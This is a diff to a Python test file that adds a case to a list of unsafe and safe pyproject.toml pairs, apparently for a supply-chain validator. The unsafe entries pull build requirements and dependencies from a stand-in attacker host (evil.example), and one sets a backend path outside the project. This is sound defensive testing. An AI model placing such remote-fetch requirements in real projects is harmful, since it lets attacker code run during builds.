@@ -110,6 +110,8 @@ _CASES: list[tuple[dict[str, str], dict[str, str], str]] = [
     ({"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["../x"]\n'},
      {"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'},
      "uv run pytest"),
+    ({"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = ["b @ https://evil.example/b.tar.gz"]\n'},
+     {"pyproject.toml": _PYPROJECT + '[build-system]\nrequires = ["hatchling>=1.20"]\n'}, "uv run pytest"),
     # 4. dependencies by URL that are no pinned commit of a public forge
     ({"pyproject.toml": _PYPROJECT.replace('"requests>=2"', '"requests @ https://evil.example/requests.whl"')},
      {"pyproject.toml": _PYPROJECT.replace('"requests>=2"', f'"requests @ git+https://github.com/psf/requests@{_COMMIT}"')},
